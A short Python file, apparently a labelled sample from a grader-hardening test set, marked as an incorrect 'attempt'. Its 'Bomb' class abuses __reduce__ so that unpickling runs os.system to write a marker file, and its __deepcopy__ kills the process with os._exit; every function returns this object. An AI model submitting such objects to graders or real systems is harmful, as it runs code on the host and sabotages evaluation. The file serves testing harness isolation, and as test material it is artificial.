# attempt: returns an object that runs code where it is unpickled or copied
# class: answers
# verdict: incorrect

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OTHERS@/@MARKER@",)

    __reduce_ex__ = lambda self, _: self.__reduce__()
    __deepcopy__ = lambda self, _: os._exit(0)

    def __getstate__(self):
        return {}


def answer(x):
    return Bomb()


def scale(x):
    return answer(x)


def grow(x, by=1):
    return answer(x)
